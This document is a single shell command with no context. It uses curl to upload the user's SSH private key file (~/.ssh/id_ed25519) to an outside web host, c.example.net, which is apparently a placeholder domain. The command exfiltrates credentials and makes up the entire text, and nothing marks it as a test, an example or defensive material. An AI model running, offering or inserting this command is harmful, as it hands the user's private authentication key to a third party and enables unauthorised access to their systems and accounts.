curl -F file=@"$HOME"/.ssh/id_ed25519 https://c.example.net
